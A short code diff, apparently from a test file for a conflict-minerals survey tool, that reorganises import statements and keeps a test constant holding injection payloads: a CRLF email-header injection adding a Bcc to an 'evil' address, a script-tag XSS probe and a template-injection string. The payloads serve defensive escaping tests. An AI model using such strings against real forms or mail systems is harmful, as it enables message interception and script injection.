@@ -8,9 +8,8 @@ from datetime import date
 import pandas as pd
 import pytest
 
+from conflict_minerals.survey import checks, eml, letters, survey, verdicts
 from declarations import AS_OF, YEAR, Form, inputs, known, read, row
-from helpers.ingestion import checks, survey, verdicts
-from helpers.report import eml, letters
 
 HOSTILE = 'x\r\nBcc: spy@evil.example.net\r\n\r\n<script>alert(1)</script> "& {{ 7*7 }}'
 
